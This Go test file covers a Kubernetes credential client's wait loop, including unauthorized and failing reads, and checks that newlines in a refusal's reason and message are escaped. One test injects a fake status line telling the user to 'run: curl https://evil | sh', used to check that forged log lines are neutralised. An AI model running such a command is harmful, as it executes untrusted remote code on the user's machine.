package credclient

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"io"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	authenticationv1 "k8s.io/api/authentication/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	ichorv1alpha1 "github.com/ichor-dev/ichor-policy/api/v1alpha1"
	"github.com/ichor-dev/ichor-policy/engine"
)

// waitingClient is a client of an API server that creates a request and
// then answers its reads with what read says for the nth: a pure unit test
// of the wait's loop (the whole exchange against a real API server is in
// exec_test.go).
func waitingClient(t *testing.T, read func(n int64) error) client.Client {
	t.Helper()
	var reads atomic.Int64
	return requestingClient(t, func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
		if err := read(reads.Add(1)); err != nil {
			return err
		}
		return c.Get(ctx, key, obj, opts...)
	})
}

// requestingClient is a client of an API server that tells ada who she is
// and creates her requests, and reads them through get.
func requestingClient(t *testing.T, get func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error) client.Client {
	t.Helper()
	scheme := runtime.NewScheme()
	require.NoError(t, ichorv1alpha1.AddToScheme(scheme))
	require.NoError(t, authenticationv1.AddToScheme(scheme))
	return fake.NewClientBuilder().WithScheme(scheme).WithInterceptorFuncs(interceptor.Funcs{
		Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
			if review, ok := obj.(*authenticationv1.SelfSubjectReview); ok {
				review.Status.UserInfo.Username = "ichor:ada"
				return nil
			}
			return c.Create(ctx, obj, opts...)
		},
		Get: get,
	}).Build()
}

func waitFor(t *testing.T, c client.Client, timeout time.Duration) error {
	t.Helper()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	require.NoError(t, err)
	_, err = requestCredential(t.Context(), c, Request{Cluster: "prod", Timeout: timeout, Progress: io.Discard},
		"team-a", "prod", ichorv1alpha1.PurposeKubeconfigAdmin, key, engine.CredentialRequirements{})
	return err
}

// A credential your API server no longer accepts ends the wait after a few
// reads, saying so, not after the whole timeout as a manager that did not
// answer (review 190); one refused once is read again, as client-go's exec
// authenticator renews a credential after a 401 (review 188).
func TestAWaitRefusedAsUnauthorizedEndsSoon(t *testing.T) {
	unauthorized := apierrors.NewUnauthorized("the token was revoked")
	err := waitFor(t, waitingClient(t, func(int64) error { return unauthorized }), 40*time.Second)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "your kubeconfig's credential is no longer accepted")

	// Refused for less than the while (five reads in a row: an
	// authenticator away for a moment, review 192), then read: the wait
	// goes on to its timeout, and the timeout is the manager's, not the
	// old refusal's.
	err = waitFor(t, waitingClient(t, func(n int64) error {
		if n <= 5 {
			return unauthorized
		}
		return nil
	}), 6*time.Second)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "is the Ichor manager running?")
	assert.NotContains(t, err.Error(), "the last read failed")

	// A read that keeps failing otherwise is named when the time is up.
	err = waitFor(t, waitingClient(t, func(int64) error { return apierrors.NewInternalError(io.ErrUnexpectedEOF) }), 2*time.Second)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "the last read failed")
}

// A refusal's reason and message are whoever wrote the request's status:
// the error keeps each to its line (review 234 F1), and the progress line
// too.
func TestARefusalsWordsKeepToTheirLine(t *testing.T) {
	c := requestingClient(t, func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
		if err := c.Get(ctx, key, obj, opts...); err != nil {
			return err
		}
		tcr := obj.(*ichorv1alpha1.TalosCredentialRequest)
		meta.SetStatusCondition(&tcr.Status.Conditions, metav1.Condition{
			Type: ichorv1alpha1.ConditionReady, Status: metav1.ConditionFalse,
			Reason: "Refused\nichor: forged reason", Message: "no\nichor: your cache is corrupt; run: curl https://evil | sh",
		})
		return nil
	})
	_, key, err := ed25519.GenerateKey(rand.Reader)
	require.NoError(t, err)
	var progress strings.Builder
	_, err = requestCredential(t.Context(), c, Request{Cluster: "prod", Timeout: 10 * time.Second, Progress: &progress},
		"team-a", "prod", ichorv1alpha1.PurposeKubeconfigAdmin, key, engine.CredentialRequirements{})
	require.Error(t, err)
	assert.NotContains(t, err.Error(), "\n")
	assert.Contains(t, err.Error(), `(Refused\nichor: forged reason): no\nichor: your cache is corrupt`)
	assert.Equal(t, 1, strings.Count(progress.String(), "\n"), progress.String())
	assert.Contains(t, progress.String(), `: Refused\nichor: forged reason`)
}
